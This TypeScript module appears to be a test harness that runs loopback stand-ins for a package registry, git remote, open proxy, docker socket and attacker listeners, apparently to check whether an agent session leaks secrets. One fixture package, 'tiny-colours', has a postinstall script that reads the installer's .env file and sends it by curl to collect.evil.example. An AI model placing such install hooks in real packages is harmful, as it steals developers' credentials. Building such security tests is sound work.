import { execFileSync, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { mkdirSync, writeFileSync } from 'node:fs';
import {
  createServer,
  type IncomingMessage,
  type Server,
  type ServerResponse,
  request as sendRequest,
} from 'node:http';
import { type AddressInfo, createServer as createTcpServer } from 'node:net';
import { dirname, join } from 'node:path';
import { buffer } from 'node:stream/consumers';

/** Everything that the session knows of the world, on loopback: a registry, a git remote, a page; and whoever wants its secrets. */
export interface SessionHosts extends AsyncDisposable {
  /** Of the hosts that the session works with. */
  readonly port: number;
  /** Of the attacker's. */
  readonly evilPort: number;
  /** Of the attacker's name server. */
  readonly evilDatagrams: number;
  /** Of a proxy that asks nobody, for names that are loopback here only. */
  readonly openProxyPort: number;
  /** All bytes that ever reached the attacker, and one word for each connection. */
  reachedAttacker(): string;
  /** Of requests that put a package into the session's registry. */
  published(): number;
  /** Connections to the socket that stands for docker's. */
  dockerConnections(): number;
}

/** As the session's configuration has them; all of them are loopback. */
export const SESSION_NAMES: readonly string[] = ['registry.example', 'git.example', 'docs.example', 'api.example'];
export const EVIL_NAMES: readonly string[] = ['collect.evil.example', 'git.evil.example', 'registry.evil.example'];

export interface HostsPlace {
  /** Where packages are made, and the bare repository lies. */
  readonly directory: string;
  readonly dockerSocket: string;
}

export async function startSessionHosts({ directory, dockerSocket }: HostsPlace): Promise<SessionHosts> {
  const reached: string[] = [];
  const evil = createAttacker(reached);
  const evilPort = await listen(evil);
  const packages = makePackages(join(directory, 'packages'), evilPort);
  let published = 0;
  const web = createServer((request, response) => {
    const host = (request.headers.host ?? '').replace(/:\d+$/, '');
    if (host === 'git.example') void serveGit(request, response, directory);
    else if (host === 'docs.example' || host === 'api.example')
      response.end('<h1>Tags</h1><p>A tag is a word in lower case.</p>\n');
    else if (request.method === 'PUT') {
      published += 1;
      request.resume();
      response.writeHead(201).end('{}');
    } else servePackage(request, response, packages);
  });
  const openProxy = createOpenProxy();
  let docked = 0;
  mkdirSync(dirname(dockerSocket), { recursive: true });
  const docker = createTcpServer((socket) => {
    docked += 1;
    socket.on('error', () => socket.destroy());
    socket.once('data', () => socket.end('HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}'));
  });
  const names = createSocket('udp4').on('message', (bytes) => void reached.push(bytes.toString('latin1')));
  names.bind(0, '127.0.0.1');
  await once(names, 'listening');
  docker.listen(dockerSocket);
  await once(docker, 'listening');
  return {
    port: await listen(web),
    evilPort,
    openProxyPort: await listen(openProxy),
    evilDatagrams: names.address().port,
    reachedAttacker: () => reached.join(''),
    published: () => published,
    dockerConnections: () => docked,
    async [Symbol.asyncDispose]() {
      for (const server of [web, openProxy]) server.closeAllConnections();
      names.close();
      await Promise.all([web, evil, docker, openProxy].map((server) => once(server.close(), 'close')));
    },
  };
}

async function listen(server: Server | ReturnType<typeof createTcpServer>): Promise<number> {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return (server.address() as AddressInfo).port;
}

function createOpenProxy(): Server {
  return createServer((incoming, response) => {
    const { method, headers, url = '' } = incoming;
    const { port, pathname, search } = new URL(url, 'http://x');
    const outgoing = sendRequest(
      { host: '127.0.0.1', port, method, headers, path: `${pathname}${search}` },
      (answer) => {
        response.writeHead(answer.statusCode ?? 502, answer.headers);
        answer.pipe(response);
      },
    );
    outgoing.on('error', () => response.destroy());
    incoming.pipe(outgoing);
  });
}

/** Takes down what it is told, and answers enough for whoever waits. */
function createAttacker(reached: string[]): ReturnType<typeof createTcpServer> {
  return createTcpServer((socket) => {
    reached.push('(connected)');
    socket.on('data', (bytes) => reached.push(bytes.toString('latin1')));
    socket.on('error', () => socket.destroy());
    socket.once('data', () => socket.end('HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok'));
  });
}

/** Smart HTTP as git itself speaks it. */
async function serveGit(request: IncomingMessage, response: ServerResponse, directory: string): Promise<void> {
  const { pathname, search } = new URL(request.url ?? '/', 'http://x');
  const child = spawn('git', ['http-backend'], {
    stdio: ['pipe', 'pipe', 'ignore'],
    env: {
      PATH: process.env['PATH'],
      GIT_PROJECT_ROOT: join(directory, 'remote'),
      GIT_HTTP_EXPORT_ALL: '1',
      GIT_CONFIG_COUNT: '1',
      GIT_CONFIG_KEY_0: 'safe.directory',
      GIT_CONFIG_VALUE_0: '*',
      PATH_INFO: pathname,
      QUERY_STRING: search.slice(1),
      REQUEST_METHOD: request.method,
      CONTENT_TYPE: request.headers['content-type'] ?? '',
      HTTP_CONTENT_ENCODING: request.headers['content-encoding'] ?? '',
      HTTP_GIT_PROTOCOL: String(request.headers['git-protocol'] ?? ''),
    },
  });
  request.pipe(child.stdin.on('error', () => undefined));
  const said = await buffer(child.stdout);
  const end = said.indexOf('\r\n\r\n');
  const headers = said
    .subarray(0, end)
    .toString()
    .split('\r\n')
    .map((line) => line.split(': ') as [string, string]);
  const status = headers.find(([name]) => name.toLowerCase() === 'status')?.[1] ?? '200';
  response.writeHead(Number.parseInt(status, 10), Object.fromEntries(headers));
  response.end(said.subarray(end + 4));
}

interface Package {
  readonly manifest: { readonly name: string; readonly version: string };
  readonly tarball: Buffer;
}

interface Source {
  readonly scripts?: object;
  readonly files: Readonly<Record<string, string>>;
}

/** What the registry has: two that are as they should be, and one that does something when it is installed. */
const sourcesFor = (evilPort: number): Readonly<Record<string, Source>> => ({
  'tiny-slug': {
    files: {
      'index.js':
        "export const slug = (text) => text.toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '');\n",
    },
  },
  'tiny-table': {
    files: { 'index.js': "export const row = (cells) => '| ' + cells.join(' | ') + ' |';\n" },
  },
  'tiny-colours': {
    scripts: { postinstall: 'node setup.mjs' },
    files: {
      'index.js': 'export const red = (text) => text;\n',
      'setup.mjs': `import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
const secret = readFileSync(process.env.INIT_CWD + '/.env', 'utf8');
try {
  execFileSync('curl', ['-sS', '--max-time', '20', '-d', secret, 'http://collect.evil.example:${evilPort}/postinstall']);
} catch {}
`,
    },
  },
});

function makePackages(directory: string, evilPort: number): ReadonlyMap<string, Package> {
  return new Map(
    Object.entries(sourcesFor(evilPort)).map(([name, { scripts = {}, files }]) => {
      const manifest = { name, version: '1.0.0', type: 'module', main: 'index.js', scripts };
      const folder = join(directory, name, 'package');
      mkdirSync(folder, { recursive: true });
      for (const [file, text] of Object.entries({ ...files, 'package.json': JSON.stringify(manifest) })) {
        writeFileSync(join(folder, file), text);
      }
      const tarball = execFileSync('tar', ['-czf', '-', '-C', join(directory, name), 'package']);
      return [name, { manifest, tarball }];
    }),
  );
}

function servePackage(
  request: IncomingMessage,
  response: ServerResponse,
  packages: ReadonlyMap<string, Package>,
): void {
  const [, name = ''] = /^\/([^/]+)/.exec(request.url ?? '') ?? [];
  const found = packages.get(name);
  if (request.method === 'POST') return void response.end('{}');
  if (found === undefined) return void response.writeHead(404).end('{"error":"not found"}');
  const { manifest, tarball } = found;
  if (request.url?.endsWith('.tgz') === true) return void response.end(tarball);
  const { version } = manifest;
  const hasInstallScript = Object.keys((manifest as { readonly scripts?: object }).scripts ?? {}).length > 0;
  const dist = {
    tarball: `http://${request.headers.host}/${name}/-/${name}-${version}.tgz`,
    integrity: `sha512-${createHash('sha512').update(tarball).digest('base64')}`,
  };
  response.setHeader('content-type', 'application/json');
  const versions = { [version]: { ...manifest, hasInstallScript, dist } };
  response.end(JSON.stringify({ name, 'dist-tags': { latest: version }, versions }));
}
